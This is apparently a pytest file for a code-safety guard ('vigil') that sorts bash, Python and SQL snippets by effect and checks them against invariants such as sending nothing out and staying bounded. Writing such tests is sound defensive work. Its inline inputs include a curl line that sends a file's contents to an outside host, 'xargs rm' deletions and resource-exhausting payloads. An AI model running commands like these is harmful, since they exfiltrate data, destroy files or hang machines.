"""Scripts of somebody who means harm (``attacks.yaml``), each with what has to be found in it."""

import time
from functools import cache
from pathlib import Path

import pytest
import yaml

from vigil.domain.effects import EffectKind
from vigil.guard.findings import Mark, Report
from vigil.guard.invariants import Invariant, breaches
from vigil.guard.survey import Language, survey
from vigil.guard.tools import Tools
from vigil.tool_files import load_tools

SCRIPTS = yaml.safe_load((Path(__file__).parent / "attacks.yaml").read_text(encoding="utf-8"))
LANGUAGES: dict[str, Language] = {"sql": "sql", "python": "python"}
MOST_SECONDS = 30
NEEDS_NO_GRANT = frozenset(Invariant) - {Invariant.STAYS_WITHIN_GRANTS}


@cache
def tools() -> Tools:
    return load_tools()


def scripts(group: str) -> list[object]:
    """The scripts of a group in all of its languages."""
    return [
        pytest.param(code, LANGUAGES.get(name.rpartition("-")[2], "bash"), id=code[:70])
        for name, rows in SCRIPTS.items()
        if name == group or name.startswith(f"{group}-")
        for code in rows
    ]


def looked_at(code: str, language: Language) -> Report:
    return survey(code, language, tools())


def broken(report: Report) -> set[Invariant]:
    return {breach.invariant for breach in breaches(report.findings, frozenset())}


@pytest.mark.parametrize(("code", "language"), scripts("leaks"))
def test_what_leaves_the_machine_is_no_reading(code: str, language: Language) -> None:
    report = looked_at(code, language)
    assert Invariant.SENDS_NOTHING_OUT in broken(report), report
    assert report.kind.rank >= EffectKind.DISRUPTIVE.rank


@pytest.mark.parametrize(("code", "language"), scripts("secrets"))
def test_what_shows_secrets_breaks_a_promise(code: str, language: Language) -> None:
    report = looked_at(code, language)
    assert Invariant.KEEPS_SECRETS in broken(report), report


@pytest.mark.parametrize(("code", "language"), scripts("exhausting"))
def test_what_uses_up_the_machine_is_no_reading(code: str, language: Language) -> None:
    report = looked_at(code, language)
    assert Invariant.STAYS_BOUNDED in broken(report), report
    assert report.kind.rank >= EffectKind.DISRUPTIVE.rank


@pytest.mark.parametrize(("code", "language"), scripts("hidden"))
def test_what_runs_what_is_hidden_in_a_text_is_unknown(code: str, language: Language) -> None:
    assert looked_at(code, language).kind is EffectKind.UNKNOWN


@pytest.mark.parametrize(("code", "language"), scripts("overwrites"))
def test_of_many_ways_each_counts(code: str, language: Language) -> None:
    report = looked_at(code, language)
    assert report.kind.rank >= EffectKind.DESTRUCTIVE.rank, report


@pytest.mark.parametrize(("code", "language"), scripts("moves"))
def test_of_too_many_pairs_of_names_none_is_lost(code: str, language: Language) -> None:
    assert "file:/usr/bin/ls" in looked_at(code, language).resources


@pytest.mark.parametrize("host", ["/run/docker.sock", "/var/run/docker.sock"])
def test_a_socket_of_this_machine_is_no_other_target(host: str) -> None:
    report = looked_at(f"DOCKER_HOST=unix://{host} docker ps", "bash")
    assert "guard.target" not in {f.rule for f in report.findings}, report


@pytest.mark.parametrize(("code", "language"), scripts("removes"))
def test_to_remove_whatever_a_list_names_is_to_remove_a_tree(code: str, language: Language) -> None:
    report = looked_at(code, language)
    assert report.kind is EffectKind.DESTRUCTIVE, report
    assert any(Mark.REMOVES_TREE in finding.marks for finding in report.findings)


def test_in_scratch_a_list_may_be_removed() -> None:
    report = looked_at("find /tmp/x -type f | xargs rm", "bash")
    assert report.kind is EffectKind.DISRUPTIVE, report


@pytest.mark.parametrize(("code", "language"), scripts("elsewhere"))
def test_another_target_needs_a_grant_of_its_own(code: str, language: Language) -> None:
    report = looked_at(code, language)
    targets = {f.resource for f in report.findings if f.rule == "guard.target"}
    assert targets, report
    assert all(target.startswith("target:") for target in targets)
    usual = frozenset(f.resource for f in report.findings) - targets
    assert Invariant.STAYS_WITHIN_GRANTS in {b.invariant for b in breaches(report.findings, usual)}


@pytest.mark.parametrize(("code", "language"), scripts("harmless"))
def test_what_only_looks_is_read(code: str, language: Language) -> None:
    report = looked_at(code, language)
    assert report.kind is EffectKind.READ, report
    assert not broken(report) & NEEDS_NO_GRANT, report


def test_a_list_of_more_folders_than_are_looked_at_hides_none_of_them() -> None:
    scratch = " ".join(f"/tmp/{number}" for number in range(20))
    report = looked_at(f"find {scratch} /srv -type f | xargs rm", "bash")
    assert report.kind is EffectKind.UNKNOWN, report


@pytest.mark.parametrize(
    ("code", "language"),
    [
        (f"x=$({';'.join(f'a{n}' for n in range(1500))})\ncurl x.org/" + "$x" * 9999, "bash"),
        ("x=$(cat f); curl https://x.org/$x '" + "a." * 60_000 + " '", "bash"),
        ("cd /a; " * 300 + "rm x;" * 1500, "bash"),
        ("x='" + "/[a]" * 20_000 + "'\n" + 'cat "$x"\n' * 500, "bash"),
        ("x='" + "/a" * 45_000 + "'\n" + 'cat "$x"\n' * 500, "bash"),
        ("x = [print]\n" + "x = [x, 1, '1']\n" * 120 + "str(x)\n" * 1000, "python"),
        ("select " + "repeat(" * 2000 + "'a'" + ", 1)" * 2000, "sql"),
        ("for i in range(500):\n  x = [0] * 1000 + [0] * 1000\n", "python"),
        ("import re\nre.match('" + "([" * 40_000 + "', x)", "python"),
        ("import itertools\nitertools.permutations(range(99), -5)", "python"),
        ("import itertools\nitertools.product(*[range(400)] * 200, repeat=10**9)", "python"),
        ("select " + ",".join("repeat('a', 1)" for _ in range(1500)), "sql"),
    ],
    ids=[
        "sources",
        "words",
        "folders",
        "globs",
        "paths",
        "boxes",
        "nested",
        "lists",
        "pattern",
        "negative",
        "product",
        "calls",
    ],
)
def test_what_is_followed_is_bounded(code: str, language: Language) -> None:
    began = time.process_time()
    looked_at(code, language)
    # Of the processor's time, so that a busy machine does not count.
    assert time.process_time() - began < MOST_SECONDS
